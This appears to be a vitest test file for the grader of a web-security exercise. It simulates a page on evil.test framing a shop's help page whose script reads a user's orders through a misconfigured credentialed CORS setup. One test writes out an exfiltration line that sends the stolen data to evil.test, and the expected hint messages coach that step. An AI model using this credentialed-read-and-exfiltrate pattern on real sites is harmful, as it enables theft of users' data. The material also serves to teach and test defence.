import { expect, test } from 'vitest'
import { documentOf } from '../document/document-of.ts'
import { runInNode } from '../run/run-in-node.ts'
import { secretNotRead } from './secret-read.ts'

const API = 'https://api.shop.example'
const HELP = 'https://help.shop.example'
const ORDERS = `GET /orders
200
Access-Control-Allow-Origin: ${HELP}
Access-Control-Allow-Credentials: true

order 7: a red lamp
`
const READ = `const answer = await fetch("${API}/orders", { credentials: "include" }); const text = await answer.text();`

/** What a check says where a stranger's page opens a page of somebody else that runs this script. */
async function missing(script: string, { sandbox = 'allow-scripts allow-same-origin', orders = ORDERS } = {}) {
  const trace = await runInNode(
    documentOf({
      page: 'https://evil.test/',
      stranger: { wants: 'a red lamp', whose: 'Sara' },
      code: `const frame = document.createElement("iframe")
frame.sandbox = "${sandbox}"
frame.src = "${HELP}/page"
document.body.append(frame)\n`,
      servers: {
        [API]: orders,
        [HELP]: `GET /page\n200\nContent-Type: text/html\n\n<script type="module">${script}</script>`,
        'https://evil.test': 'GET /take\n204\n',
      },
      cookies: { [API]: 'session=sara' },
    }),
  )
  return secretNotRead({ says: '', expect: { secretRead: true } }, trace).join(' ')
}

test('data that a page of somebody else has read, and nobody got, has to be sent', async () => {
  expect(await missing(READ)).toBe(
    'A script on **help.shop.example** has read Sara’s data, and has sent it to nobody. Let it send the data to **evil.test**.',
  )
})

test('data that was sent is stolen, so nothing is missing', async () => {
  const send = `await fetch("https://evil.test/take?" + encodeURIComponent(text), { mode: "no-cors" })`
  expect(await missing(`${READ} ${send}`)).toBe('')
})

test('an answer without the data is told from one with it', async () => {
  expect(await missing(READ, { orders: ORDERS.replace('a red lamp', 'nothing') })).toBe(
    'A script on **help.shop.example** reads the answer of **api.shop.example**, and Sara’s data is not in it.',
  )
})

test('a document in which no script made a call is told with what kept its scripts from running', async () => {
  expect(await missing('')).toBe(
    'Your page has opened `help.shop.example`, and cannot read what is in it. No script in that document has made a call.',
  )
  expect(await missing('const = 1')).toContain('A script has an error: `SyntaxError:')
  expect(await missing(READ, { sandbox: '' })).toContain('The browser says: `Blocked script execution in')
})
